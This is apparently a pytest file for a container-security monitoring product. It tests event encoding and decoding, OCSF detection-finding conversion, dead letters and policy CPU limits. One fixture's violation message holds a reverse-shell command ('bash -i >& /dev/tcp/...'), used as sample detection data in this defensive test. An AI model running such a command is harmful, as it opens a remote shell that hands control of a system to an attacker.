from __future__ import annotations

import orjson
import pytest

from schemas import (
    AuditCategory,
    AuditEvent,
    Disposition,
    EventDecodeError,
    Evidence,
    MetricSample,
    PolicyEvent,
    PolicyValidationError,
    ProcessInfo,
    SecurityPolicy,
    Severity,
    Violation,
    dead_letter,
    decode,
    encode,
    stable_id,
    to_ocsf,
)
from schemas import topics as t
from schemas.policy import host_cpus, policy_from_dict


def _violation(**kw: object) -> Violation:
    base: dict[str, object] = {
        "container_id": "c" * 64,
        "host": "h1",
        "violation_id": stable_id("c", "process.reverse_shell", 0),
        "rule_id": "process.reverse_shell",
        "violation_type": "suspicious_activity",
        "severity": Severity.CRITICAL,
        "title": "Reverse shell",
        "message": "bash -i >& /dev/tcp/127.0.0.1/4444",
        "first_seen": 1000,
        "last_seen": 2000,
        "sample_time": 1500,
        "policy_id": "pol-1",
        "policy_name": "default",
        "policy_version": "1",
        "disposition": Disposition.TERMINATED,
        "container_name": "sg-x",
        "image": "sandguard/python:3",
        "labels": {"team": "a"},
        "evidence": Evidence(
            process=ProcessInfo(pid=10, ns_pid=3, ppid=1, uid=1000, comm="bash", argv=("bash", "-i"))
        ),
    }
    base.update(kw)
    return Violation.model_validate(base)


def test_roundtrip_every_topic() -> None:
    events = {
        t.METRICS: MetricSample(container_id="c", cpu_percent=12.5),
        t.AUDIT: AuditEvent(container_id="c", category=AuditCategory.EXEC, action="exec", allowed=False),
        t.POLICIES: PolicyEvent(
            container_id="c", policy_id=SecurityPolicy().policy_id, policy=SecurityPolicy()
        ),
        t.VIOLATIONS: _violation(),
    }
    for topic, ev in events.items():
        assert decode(topic, encode(ev)) == ev


def test_violation_is_an_ocsf_detection_finding() -> None:
    doc = to_ocsf(_violation())
    assert (doc["class_uid"], doc["category_uid"], doc["type_uid"], doc["activity_id"]) == (
        2004,
        2,
        200401,
        1,
    )
    assert doc["severity_id"] == 5 and doc["disposition_id"] == 2 and doc["action_id"] == 2
    assert doc["finding_info"]["uid"] == _violation().violation_id
    assert doc["finding_info"]["analytic"]["uid"] == "process.reverse_shell"
    assert doc["metadata"]["version"] == "1.8.0" and doc["metadata"]["product"]["name"] == "sandguard"
    assert doc["device"]["container"]["uid"] == "c" * 64
    # SIEM.md: pid is the host pid, namespace_pid the pid inside the container.
    assert doc["evidences"][0]["process"]["pid"] == 10
    assert doc["evidences"][0]["process"]["namespace_pid"] == 3
    assert doc["policy"] == {"uid": "pol-1", "name": "default", "version": "1"}


def test_stable_ids_are_deterministic() -> None:
    assert stable_id("a", 1) == stable_id("a", 1) != stable_id("a", 2)


@pytest.mark.parametrize("raw", [b"not json", b"{}", b'{"kind": "metric"}', b"[1,2]"])
def test_garbage_raises_decode_error(raw: bytes) -> None:
    with pytest.raises(EventDecodeError):
        decode(t.METRICS, raw)
    with pytest.raises(EventDecodeError):
        decode(t.VIOLATIONS, raw)


def test_tombstone_and_dead_letter() -> None:
    assert decode(t.POLICIES, None) is None
    dl = dead_letter("processor", t.METRICS, b"\xff\xfe bad", "not json", key="c", partition=1, offset=7)
    back = decode(t.DEADLETTER, encode(dl))
    assert back.value.startswith("\\xff") and back.offset == 7
    assert orjson.loads(encode(dl))["source_topic"] == t.METRICS


def test_a_policy_from_a_bigger_host_decodes_here() -> None:
    """The CPU bound is the loading host's: a policy made for 64 CPUs, checked there, still
    decodes on a smaller processor, sink or enforcer host (not a dead letter)."""
    big = policy_from_dict({"resource_limits": {"cpu_percent": 6400}}, host_cpus=64)
    event = PolicyEvent(container_id="c" * 64, host="h1", time=1, policy_id="p", policy=big)
    assert decode(t.POLICIES, encode(event)) == event
    with pytest.raises(PolicyValidationError, match="cpu_percent"):
        policy_from_dict({"resource_limits": {"cpu_percent": 100 * (host_cpus() + 1)}})
